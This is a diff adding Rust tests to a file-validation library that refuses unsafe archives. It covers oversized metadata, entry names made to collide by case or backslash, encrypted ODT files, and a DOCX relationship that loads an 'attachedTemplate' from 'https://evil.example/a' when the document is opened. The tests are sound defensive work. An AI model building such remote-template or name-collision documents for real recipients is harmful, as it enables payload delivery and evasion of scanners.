@@ -2,7 +2,7 @@
 
 use std::io::{Cursor, Write as _};
 
-use qadam_files::archive::{ENTRIES_MAX, UNPACKED_MAX};
+use qadam_files::archive::{ENTRIES_MAX, READ_MAX, UNPACKED_MAX};
 use qadam_files::{FileType, Refusal, take};
 use zip::write::SimpleFileOptions;
 use zip::{CompressionMethod, ZipWriter};
@@ -121,6 +121,72 @@ fn more_than_can_be_looked_into_is_refused() {
     let bomb = writer.finish().unwrap().into_inner();
     assert!(bomb.len() < 512 * 1024, "a bomb is small: {}", bomb.len());
     assert_eq!(verdict(bomb), Err(Refusal::Unsafe));
+}
+
+#[test]
+fn lists_are_read_into_memory_only_so_far() {
+    let long = "a".repeat(usize::try_from(READ_MAX).unwrap() + 1);
+    for name in ["mimetype", TYPES, "META-INF/manifest.xml", "_rels/.rels"] {
+        let entries = [(name, long.as_str()), ("content.xml", "<o/>")];
+        assert_eq!(verdict(archive(&entries)), Err(Refusal::Unsafe), "{name}");
+    }
+    let as_long = [("mimetype", &long[1..]), ("content.xml", "<o/>")];
+    assert_eq!(verdict(archive(&as_long)), Err(Refusal::UnknownType));
+}
+
+#[test]
+fn entries_that_readers_could_take_for_one_another_are_refused() {
+    for (name, other) in [("word/a.xml", "word/A.xml"), ("word/a.xml", "word\\a.xml")] {
+        let entries = [(TYPES, WORD), ("word/document.xml", "<w/>"), (name, "1"), (other, "2")];
+        assert_eq!(verdict(archive(&entries)), Err(Refusal::Unsafe), "{other}");
+    }
+    let entries = [(TYPES, WORD), ("word/document.xml", "<w/>"), ("word/a.xml", "1"), ("word/b.xml", "2")];
+    let mut bytes = archive(&entries);
+    assert_eq!(verdict(bytes.clone()), Ok(FileType::Docx));
+    for place in 0..bytes.len() - 10 {
+        if bytes[place..].starts_with(b"word/b.xml") {
+            bytes[place + 5] = b'a';
+        }
+    }
+    assert_eq!(verdict(bytes), Err(Refusal::Unsafe), "the same name");
+}
+
+#[test]
+fn a_document_that_fetches_something_when_it_is_opened_is_refused() {
+    let list = |kind: &str| {
+        format!(
+            "<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/\
+             relationships/{kind}\" Target=\"https://evil.example/a\" TargetMode=\"External\"/></Relationships>"
+        )
+    };
+    for (kind, expected) in [("attachedTemplate", Err(Refusal::Unsafe)), ("hyperlink", Ok(FileType::Docx))] {
+        let list = list(kind);
+        let part = ("word/_rels/settings.xml.rels", list.as_str());
+        assert_eq!(
+            verdict(archive(&[(TYPES, WORD), ("word/document.xml", "<w/>"), part])),
+            expected,
+            "{kind}"
+        );
+    }
+}
+
+#[test]
+fn an_open_document_with_a_password_is_refused() {
+    let manifest = |inside: &str| {
+        format!(
+            "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE manifest:manifest><manifest:manifest>\
+             <manifest:file-entry manifest:full-path=\"content.xml\">{inside}</manifest:file-entry></manifest:manifest>"
+        )
+    };
+    for (inside, expected) in [
+        ("", Ok(FileType::Odt)),
+        ("<manifest:encryption-data manifest:checksum=\"x\"/>", Err(Refusal::Unsafe)),
+    ] {
+        let manifest = manifest(inside);
+        let entries =
+            [("mimetype", OPEN_TEXT), ("content.xml", "?"), ("META-INF/manifest.xml", manifest.as_str())];
+        assert_eq!(verdict(archive(&entries)), expected, "{inside}");
+    }
 }
 
 #[test]
